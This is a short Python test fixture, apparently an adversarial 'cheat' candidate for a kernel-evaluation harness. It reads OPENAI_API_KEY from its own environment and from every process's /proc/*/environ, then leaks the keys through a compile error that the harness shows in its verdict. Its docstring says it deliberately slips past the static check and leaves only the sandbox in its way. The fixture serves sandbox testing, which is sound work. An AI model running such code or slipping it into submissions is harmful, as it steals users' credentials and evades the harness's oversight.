# ruff: noqa: I001  (a cheat: tests/test_adversarial.py splices it into the rendered naive kernel after its imports)
"""Adversarial candidate `leak_secret` (tests/test_adversarial.py): a cheat spliced into the naive kernel.
Reads secrets from its own environment and every process's /proc/<pid>/environ and puts them
into the compile error (which a harness shows in the verdict).
It bypasses the static check on purpose; only the sandbox stands in its way.
"""

import glob
import os

_found = [os.environ.get("OPENAI_API_KEY", "")]
for _environ in glob.glob("/proc/*/environ"):
    try:
        with open(_environ, "rb") as _f:
            for _entry in _f.read().split(b"\0"):
                if _entry.startswith(b"OPENAI_API_KEY="):
                    _found.append(_entry.split(b"=", 1)[1].decode(errors="replace"))
    except OSError:
        pass
raise RuntimeError("stolen secrets: " + " ".join(_found))
